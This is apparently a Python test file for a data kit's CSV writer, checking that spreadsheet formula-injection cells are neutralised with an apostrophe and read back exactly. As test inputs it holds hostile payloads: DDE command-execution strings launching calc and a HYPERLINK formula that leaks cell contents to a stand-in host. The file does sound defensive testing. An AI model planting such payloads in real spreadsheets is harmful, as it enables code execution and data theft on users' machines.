"""Formula injection: a CSV cell that starts with = + - @ (or tab / carriage return) would run as a
formula when a journalist opens the table in Excel, LibreOffice or Google Sheets. The kit writes
such cells with a leading apostrophe (OWASP "CSV Injection"), `read_table` removes it again, and
the SQLite copy keeps the exact text.

Found by this file: a bare carriage return in a cell went out unquoted, so a spreadsheet split
the row there and read what followed ("\r=1") as a new cell, a formula. Under pandas 3 text columns have the "str" dtype, and the guard only looked at
"object" columns, so it silently did nothing.
"""
from __future__ import annotations

import contextlib
import csv
import sqlite3
from datetime import timedelta

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from kit.tables.io import read_table, write_csv, write_sqlite
from kit.pipeline.runner import run

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://example.invalid","click")',
            "=cmd|' /C calc'!A0", "'=already quoted", "''=twice"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _raw_cells(path):
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def test_formula_cells_get_an_apostrophe_and_come_back_exact(tmp_path):
    frame = pd.DataFrame({"text": FORMULAS + ["plain", "a=b", ""], "n": range(len(FORMULAS) + 3)})
    frame.loc[0, "n"] = -5
    path = write_csv(frame, tmp_path / "t.csv")
    header, rows = _raw_cells(path)
    for raw, original in zip((r[0] for r in rows), frame["text"]):
        original = original.replace("\r", "\n")
        if original.startswith(DANGEROUS) or original.lstrip("'").startswith(DANGEROUS) and original.startswith("'"):
            # "\t=1": the tab is also a separator, so the "=" after it gets its own apostrophe
            assert raw == ("'\t'=1" if original == "\t=1" else "'" + original)
        else:
            assert raw == original
    assert rows[0][1] == "-5", "numbers are numbers, not text: never quoted"
    back = read_table(path)
    assert back["text"].fillna("").tolist() == [v.replace("\r", "\n") for v in frame["text"]]


def test_no_csv_cell_starts_like_a_formula(tmp_path):
    frame = pd.DataFrame({"a": FORMULAS, "b": [f"x{v}" for v in FORMULAS]})
    header, rows = _raw_cells(write_csv(frame, tmp_path / "t.csv"))
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS), cell


@settings(max_examples=200, deadline=timedelta(seconds=2))
@given(values=st.lists(st.one_of(st.text(), st.sampled_from(FORMULAS),
                                 st.tuples(st.sampled_from(["'", "''", "=", "-", "@", "+"]), st.text()).map("".join)),
                       min_size=1, max_size=20))
def test_round_trip_is_exact(tmp_path_factory, hostile_cases, values):
    hostile_cases["csv/sqlite round trip"] += 1
    values = [v.replace("\x00", "") for v in values]  # NUL cannot live in a CSV cell
    folder = tmp_path_factory.mktemp("csv")
    frame = pd.DataFrame({"v": values})
    back = read_table(write_csv(frame, folder / "t.csv"))["v"]
    # An empty cell reads back as missing (that is CSV, not the guard); CSV line breaks are "\n".
    assert [("" if pd.isna(v) else v) for v in back] == [v.replace("\r\n", "\n").replace("\r", "\n") for v in values]
    target = write_sqlite({"t": frame}, folder / "t.sqlite")
    with contextlib.closing(sqlite3.connect(target)) as con:
        stored = [row[0] for row in con.execute("SELECT v FROM t")]
    assert stored == values


def test_a_run_neutralizes_article_metadata(tmp_path):
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "evil.md").write_text(
        "---\n"
        "title: '=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")'\n"
        "outlet: '@SUM(1+1)'\n"
        "url: '+cmd|'' /C calc''!A0'\n"
        "published: 2024-04-19\n"
        "---\n"
        "Rockets hit the Kalsu base on Friday. Two people were killed, police said.\n", encoding="utf-8")
    out = tmp_path / "out"
    run([folder], out, cache_dir=tmp_path / "cache", corrections_dir=tmp_path / "corr", progress=False)
    header, rows = _raw_cells(out / "articles.csv")
    row = dict(zip(header, rows[0]))
    assert row["title"] == "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")"
    assert row["outlet"] == "'@SUM(1+1)"
    assert row["url"] == "'+cmd|' /C calc'!A0"
    back = read_table(out / "articles.csv")
    assert back.loc[0, "title"] == "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")"
    with contextlib.closing(sqlite3.connect(out / "kit.sqlite")) as con:
        assert con.execute("SELECT outlet, url FROM articles").fetchone() == ("@SUM(1+1)", "+cmd|' /C calc'!A0")
    for table in out.glob("*.csv"):
        _, table_rows = _raw_cells(table)
        for cells in table_rows:
            assert not any(cell.startswith(DANGEROUS) and not _is_number(cell) for cell in cells), (table.name, cells)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


SEPARATED = ["n;@SUM(1)", "n,=1+1", "n\t+1", "n|-1+1", "a; =HYPERLINK(1)", "x;'@y", "x;''=y", "a;b", "a|b", "a\tb"]


def test_formulas_after_any_separator_are_guarded_and_quoted(tmp_path):
    """Issue 18: only the first character was checked and cells with ";" went out unquoted, so a
    spreadsheet splitting on semicolons read "n;@SUM(1)" as the cells "n" and "@SUM(1)", a formula."""
    frame = pd.DataFrame({"text": SEPARATED, "n": range(len(SEPARATED))})
    path = write_csv(frame, tmp_path / "t.csv")
    lines = path.read_text(encoding="utf-8").splitlines()[1:]
    for line, original in zip(lines, SEPARATED):
        assert line.startswith('"'), f"a cell with a separator is quoted: {line!r}"
        cell = next(csv.reader([line]))[0]
        for sep in ";,\t|":  # every piece a spreadsheet may split the cell into is inert
            for piece in cell.split(sep):
                assert not piece.lstrip(" ").startswith(DANGEROUS), (original, cell, piece)
    assert lines[0].startswith('"n;\'@SUM(1)"')
    assert read_table(path)["text"].tolist() == SEPARATED, "the reader strips exactly the guard"


def test_the_incremental_writer_guards_separators_too(tmp_path):
    """`kit run` writes its tables through `write_csv_incremental`: the same guard and quoting."""
    from kit.tables.incremental import write_csv_incremental

    frame = pd.DataFrame({"text": SEPARATED, "n": range(len(SEPARATED))})
    write_csv_incremental(frame, tmp_path / "t.csv", None)
    assert (tmp_path / "t.csv").read_bytes() == write_csv(frame, tmp_path / "u.csv").read_bytes()
    assert read_table(tmp_path / "t.csv")["text"].tolist() == SEPARATED
